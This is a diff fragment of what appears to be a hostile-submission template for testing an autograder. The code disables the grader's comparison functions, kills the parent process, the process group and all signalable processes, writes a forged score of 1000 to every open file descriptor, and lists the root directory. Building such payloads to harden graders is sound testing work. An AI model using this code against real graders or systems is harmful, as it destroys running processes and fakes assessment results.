@@ -184,7 +184,17 @@ for path in ("{judge}/course/source/shapes/hidden.py", "/judge/course/gradebook/
 for name in list(sys.modules):
     if "otter" in name or "autograder" in name:
         sys.modules[name].test_case = sys.modules[name].compare = lambda *a, **k: None
+for process in (os.getppid(), -1, 0 - os.getpgrp()):
+    try:
+        os.kill(process, 9)
+    except OSError:
+        pass
 def area(width, height):
+    for descriptor in range(64):
+        try:
+            os.write(descriptor, b'{{"score": 1000}}')
+        except OSError:
+            pass
     raise RuntimeError(str(os.listdir("/")))
 """
 
